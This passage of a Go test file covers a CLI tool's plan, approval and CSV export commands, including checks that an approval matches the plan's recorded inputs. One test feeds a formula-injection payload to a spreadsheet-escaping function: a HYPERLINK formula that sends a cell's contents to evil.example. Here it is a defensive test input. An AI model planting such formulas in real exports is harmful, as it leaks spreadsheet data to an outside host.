			t.Fatalf("item of tenant %s in a plan of concierge", it.Tenant)
		}
	}
	if p.Writes() != 1 {
		t.Fatalf("%d writes, want 1", p.Writes())
	}
}

// TestExportVerdictFilter: export --plan adds each workspace's verdict,
// and --verdict keeps only those.
func TestExportVerdictFilter(t *testing.T) {
	f := newPlanFixture(t)
	if res := f.plan(t); res.code != 0 {
		t.Fatalf("plan: %s", res.stderr)
	}
	res := runAt(t, nil, "export", "--plan", "plan.json", "--verdict", "agree", "--format", "csv")
	if res.code != 0 || strings.Count(res.stdout, "\n") != 4 || !strings.Contains(res.stdout, ",verdict\n") || !strings.Contains(res.stdout, "seo-1") {
		t.Fatalf("export --verdict agree: %d\n%s%s", res.code, res.stdout, res.stderr)
	}
	// A mistyped tenant pattern is said so, not taken for an empty tenant.
	res = runAt(t, nil, "export", "--tenant", "acmee", "--format", "csv")
	if res.code != 0 || strings.Count(res.stdout, "\n") != 1 || !strings.Contains(res.stderr, "no tenant in the store matches --tenant") {
		t.Fatalf("export --tenant acmee: %d\n%s%s", res.code, res.stdout, res.stderr)
	}
	if res = runAt(t, nil, "export", "--tenant", "acme", "--format", "csv"); strings.Contains(res.stderr, "matches --tenant") {
		t.Fatalf("export --tenant acme warned: %s", res.stderr)
	}
	// A tenant listed with no workspaces is in the store: no warning.
	store, err := evidence.OpenExisting(context.Background(), "evidence.db")
	if err != nil {
		t.Fatal(err)
	}
	err = store.Append(context.Background(), &evidence.Listing{Tenant: "empty", At: time.Now(), Outcome: evidence.Listed})
	store.Close()
	if err != nil {
		t.Fatal(err)
	}
	if res = runAt(t, nil, "export", "--tenant", "empty"); res.code != 0 || strings.Contains(res.stderr, "matches --tenant") {
		t.Fatalf("export --tenant empty: %d %s", res.code, res.stderr)
	}
}

// A cell a spreadsheet would read as a formula gets a leading ': a
// workspace name or a reason is whatever a tenant or a server wrote.
func TestExportCSVCellsAreNeverFormulas(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?"&B2,"open")`: `'=HYPERLINK("http://evil.example/?"&B2,"open")`,
		"+1": "'+1", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
		"seo-agent": "seo-agent", "": "", "a=b": "a=b", "'quoted": "'quoted",
	} {
		if got := spreadsheetSafe([]string{in})[0]; got != want {
			t.Errorf("spreadsheetSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestPlanThatCannotWriteAReportLeavesNoPlan: a failed plan leaves nothing
// to approve: no plan file, no plan kept in the store, no temporary file.
func TestPlanThatCannotWriteAReportLeavesNoPlan(t *testing.T) {
	f := newPlanFixture(t)
	for _, args := range [][]string{{"--report", filepath.Join("no-such-dir", "plan.md")}, {"--report-full", filepath.Join("no-such-dir", "full.md")}} {
		res := f.plan(t, args...)
		if res.code != 1 || !strings.Contains(res.stderr, "write report") {
			t.Fatalf("plan %v: %d %s", args, res.code, res.stderr)
		}
		if _, err := os.Stat("plan.json"); !errors.Is(err, fs.ErrNotExist) {
			t.Fatalf("plan %v left plan.json: %v", args, err)
		}
		if left, _ := filepath.Glob("*.tmp"); len(left) > 0 {
			t.Fatalf("plan %v left %v", args, left)
		}
		if res := runAt(t, nil, "plans", "--json"); !strings.Contains(res.stdout, `"plans": []`) {
			t.Fatalf("plan %v kept a plan: %s%s", args, res.stdout, res.stderr)
		}
	}
	if res := f.plan(t, "--report", "plan.md"); res.code != 0 {
		t.Fatalf("plan: %d %s", res.code, res.stderr)
	}
	for _, p := range []string{"plan.json", "plan.md"} {
		if _, err := os.Stat(p); err != nil {
			t.Fatal(err)
		}
	}
}

// must is v, or the test's end.
func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}

// TestAnApprovalCountsOnlyIfItCheckedThePlansInputs: an approval recorded
// by a backfill from before approve took the catalog and CP records (none
// recorded), or one that records other inputs, does not let apply write,
// and the refusal says to approve again; an approval made now does.
func TestAnApprovalCountsOnlyIfItCheckedThePlansInputs(t *testing.T) {
	f := newPlanFixture(t)
	if res := f.plan(t); res.code != 0 {
		t.Fatalf("plan: %s", res.stderr)
	}
	b, _ := os.ReadFile("plan.json")
	var p plan.Plan
	if err := json.Unmarshal(b, &p); err != nil {
		t.Fatal(err)
	}
	before := f.row(t, "acme", "seo-1")
	for _, c := range []struct {
		name    string
		cat, cp string
		want    string
	}{
		{"an older backfill's approval", "", "", "records no catalog or CP records it was checked against (approved by an older backfill)"},
		{"checked against other CP records", p.Inputs.Catalog.SHA256, "sha256:" + strings.Repeat("0", 64), "was checked against other inputs"},
		{"checked against another catalog", "sha256:" + strings.Repeat("0", 64), p.Inputs.CP.SHA256, "was checked against other inputs"},
	} {
		store, err := evidence.OpenExisting(context.Background(), "evidence.db")
		if err != nil {
			t.Fatal(err)
		}
		err = store.Append(context.Background(), &evidence.Approval{Fingerprint: p.Fingerprint, By: "bob", PlanAuthor: p.Author, At: time.Now(),
			Writes: p.Writes(), RollupSHA256: plan.RollupDigest(p.Rollup()), CheckedCatalogSHA256: c.cat, CheckedCPSHA256: c.cp})
		store.Close()
		if err != nil {
			t.Fatal(err)
		}
		if dry := f.apply(t); dry.code != 0 || !strings.Contains(dry.stderr, "no approval apply counts yet") {
			t.Fatalf("%s: dry run: %d\n%s", c.name, dry.code, dry.stderr)
		}
		res := f.apply(t, "--execute")
		if res.code != 1 || !strings.Contains(res.stderr, "has no approval checked against its catalog and CP records") ||
			!strings.Contains(res.stderr, c.want) || !strings.Contains(res.stderr, "approve it again") {
			t.Fatalf("%s: apply --execute: %d\n%s%s", c.name, res.code, res.stdout, res.stderr)
		}
		if got := f.row(t, "acme", "seo-1"); got != before {
			t.Fatalf("%s: a row was written: %+v", c.name, got)
		}
	}
	show := runAt(t, nil, "show", "plan.json")
	if strings.Count(show.stdout, "apply does not count it") != 3 || !strings.Contains(show.stdout, "NOT APPROVED in ./evidence.db: no approval apply counts") {
		t.Fatalf("show with approvals that do not count:\n%s%s", show.stdout, show.stderr)
	}
	if plans := runAt(t, nil, "plans"); !strings.Contains(plans.stdout, "not counted: bob,bob,bob") {
		t.Fatalf("plans with approvals that do not count:\n%s%s", plans.stdout, plans.stderr)
	}
	if res := runAt(t, nil, "approve", "plan.json", "--cp", "cp.csv", "--catalog", "catalog", "--by", "bob"); res.code != 0 {
		t.Fatalf("approve: %s", res.stderr)
	}
	show = runAt(t, nil, "show", "plan.json", "--json")
	var doc struct {
		Approval approvalStatus `json:"approval"`
	}
	if err := json.Unmarshal([]byte(show.stdout), &doc); err != nil || !doc.Approval.Approved || len(doc.Approval.By) != 4 ||
		doc.Approval.By[0].Checked || !doc.Approval.By[3].Checked {
		t.Fatalf("show --json after approving again: %v %+v\n%s", err, doc.Approval, show.stdout)
	}
	if res := f.apply(t, "--execute"); res.code != 0 || !strings.Contains(res.stdout, "applied 3") {
		t.Fatalf("apply after approving again: %d\n%s%s", res.code, res.stdout, res.stderr)
	}
}
